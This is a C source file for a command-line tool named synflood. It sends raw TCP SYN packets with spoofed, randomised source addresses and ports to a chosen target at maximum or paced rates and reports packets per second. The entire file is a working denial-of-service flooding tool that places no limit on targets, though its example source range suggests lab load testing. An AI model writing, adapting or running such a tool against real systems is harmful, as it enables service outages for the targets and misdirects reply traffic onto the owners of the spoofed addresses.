// synflood: send TCP SYNs from random sources and ports at the highest rate
// the machine allows (or at -r PPS), for a number of seconds, then print the
// rate achieved. Uses a raw IP socket, so the kernel routes and resolves the
// next hop; sources are drawn from a prefix the caller gives (e.g.
// 198.18.128.0/17), so the replies go to whatever route the target has.
//
//   synflood DST_IP DST_PORT SRC_PREFIX/LEN SECONDS [PPS]
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint64_t now_ns(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

static uint64_t rng = 0x9e3779b97f4a7c15ull;
static uint32_t rnd(void) // xorshift64*
{
	rng ^= rng >> 12;
	rng ^= rng << 25;
	rng ^= rng >> 27;
	return (uint32_t)((rng * 0x2545f4914f6cdd1dull) >> 32);
}

static uint16_t csum_fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static uint32_t csum_add(uint32_t s, const void *p, size_t n)
{
	const uint8_t *b = p;
	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (n & 1)
		s += (uint32_t)b[n - 1] << 8;
	return s;
}

int main(int argc, char **argv)
{
	if (argc < 5) {
		fprintf(stderr, "usage: %s DST_IP DST_PORT SRC_PREFIX/LEN SECONDS [PPS]\n", argv[0]);
		return 2;
	}
	struct in_addr dst, src;
	char pfx[64];
	snprintf(pfx, sizeof pfx, "%s", argv[3]);
	char *slash = strchr(pfx, '/');
	int len = slash ? atoi(slash + 1) : 32;
	if (slash)
		*slash = 0;
	if (!inet_pton(AF_INET, argv[1], &dst) || !inet_pton(AF_INET, pfx, &src) || len < 1 || len > 32) {
		fprintf(stderr, "synflood: bad address\n");
		return 2;
	}
	uint16_t dport = (uint16_t)atoi(argv[2]);
	double secs = atof(argv[4]);
	double pps = argc > 5 ? atof(argv[5]) : 0;
	uint32_t net = ntohl(src.s_addr), hostmask = len == 32 ? 0 : 0xffffffffu >> len;
	net &= ~hostmask;
	rng ^= (uint64_t)now_ns() ^ (uint64_t)getpid() << 32;

	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("synflood: socket");
		return 1;
	}
	int sndbuf = 4 << 20;
	setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof sndbuf);
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};

	// 20 bytes IP + 20 bytes TCP + MSS option
	uint8_t pkt[44];
	uint64_t start = now_ns(), end = start + (uint64_t)(secs * 1e9), sent = 0, fails = 0;
	for (;;) {
		if ((sent & 63) == 0) {
			uint64_t t = now_ns();
			if (t >= end)
				break;
			// pace: do not run ahead of PPS
			if (pps > 0 && sent > (uint64_t)((double)(t - start) * pps / 1e9)) {
				struct timespec d = {0, 50000};
				nanosleep(&d, NULL);
				continue;
			}
		}
		uint32_t s = net | (rnd() & hostmask);
		if ((s & hostmask) == 0 || (s & hostmask) == hostmask)
			s ^= 1; // keep off the network and broadcast addresses
		uint16_t sport = (uint16_t)(1024 + rnd() % 64000);
		memset(pkt, 0, sizeof pkt);
		pkt[0] = 0x45;
		pkt[2] = 0, pkt[3] = sizeof pkt;
		pkt[8] = 64;
		pkt[9] = IPPROTO_TCP;
		uint32_t sn = htonl(s);
		memcpy(pkt + 12, &sn, 4);
		memcpy(pkt + 16, &dst.s_addr, 4);
		uint8_t *t = pkt + 20;
		t[0] = (uint8_t)(sport >> 8), t[1] = (uint8_t)sport;
		t[2] = (uint8_t)(dport >> 8), t[3] = (uint8_t)dport;
		uint32_t seq = rnd();
		memcpy(t + 4, &seq, 4);
		t[12] = 6 << 4; // 24-byte header
		t[13] = 0x02;   // SYN
		t[14] = 0xfa, t[15] = 0xf0;
		t[20] = 2, t[21] = 4, t[22] = 0x05, t[23] = 0xb4; // MSS 1460
		uint8_t ph[12];
		memcpy(ph, pkt + 12, 8);
		ph[8] = 0, ph[9] = IPPROTO_TCP, ph[10] = 0, ph[11] = 24;
		uint16_t c = csum_fold(csum_add(csum_add(0, ph, 12), t, 24));
		t[16] = (uint8_t)(c >> 8), t[17] = (uint8_t)c;
		if (sendto(fd, pkt, sizeof pkt, 0, (struct sockaddr *)&to, sizeof to) == sizeof pkt)
			sent++;
		else if (errno == ENOBUFS || errno == EAGAIN)
			fails++;
		else {
			perror("synflood: sendto");
			return 1;
		}
	}
	double el = (double)(now_ns() - start) / 1e9;
	printf("synflood: %llu SYNs in %.2f s: %.0f SYN/s (%llu refused by the kernel)\n",
	       (unsigned long long)sent, el, (double)sent / el, (unsigned long long)fails);
	return 0;
}
